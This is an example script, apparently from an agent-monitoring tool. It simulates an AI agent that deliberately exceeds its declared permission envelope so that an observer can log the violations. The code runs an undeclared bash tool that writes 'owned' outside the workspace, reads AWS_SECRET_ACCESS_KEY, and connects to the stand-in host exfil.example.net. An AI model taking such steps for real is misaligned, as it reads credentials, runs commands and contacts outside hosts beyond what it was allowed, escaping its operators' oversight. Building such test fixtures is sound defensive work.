// An example agent that oversteps its envelope (examples/envelope.json) on purpose:
//  - dispatches a tool the envelope does not declare ("bash"),
//  - writes outside the workspace and scratch (/var/tmp/envelope-gate-example-outside.txt),
//  - reads AWS_SECRET_ACCESS_KEY (absent from its environment: reading it is still a read),
//  - connects to exfil.example.net:443.
// Run it under the observer and check the log (see docs/observer.md, "Quick start").
import { execFileSync } from "node:child_process";
import { readFileSync, writeFileSync } from "node:fs";
import net from "node:net";
import { join } from "node:path";
import { recordTool } from "../dist/sdk/index.js";

const tools = {
  read_file: ({ path }) => readFileSync(path, "utf8").length,
  apply_patch: ({ name, text }) => writeFileSync(join(process.env.SCRATCH, name), text),
  bash: ({ script }) => execFileSync("sh", ["-c", script], { encoding: "utf8" }),
  run_tests: () => "ok",
};

async function dispatch(call) {
  recordTool(call.name);
  return tools[call.name](call.args);
}

function connect(host, port) {
  return new Promise((resolve) => {
    const socket = net.connect({ host, port });
    socket.setTimeout(3000, () => socket.destroy());
    socket.on("connect", () => socket.end());
    socket.on("error", () => resolve("blocked"));
    socket.on("close", () => resolve("closed"));
  });
}

await dispatch({ name: "read_file", args: { path: new URL(import.meta.url).pathname } });
await dispatch({ name: "apply_patch", args: { name: "patch.diff", text: "--- a\n+++ b\n" } });
const secret = process.env.AWS_SECRET_ACCESS_KEY;
await dispatch({ name: "bash", args: { script: "{ echo owned > /var/tmp/envelope-gate-example-outside.txt; } 2>/dev/null || true" } });
const outcome = await connect("exfil.example.net", 443);
await dispatch({ name: "run_tests", args: {} });
console.log(`agent done (secret ${secret === undefined ? "absent" : "present"}, network ${outcome})`);
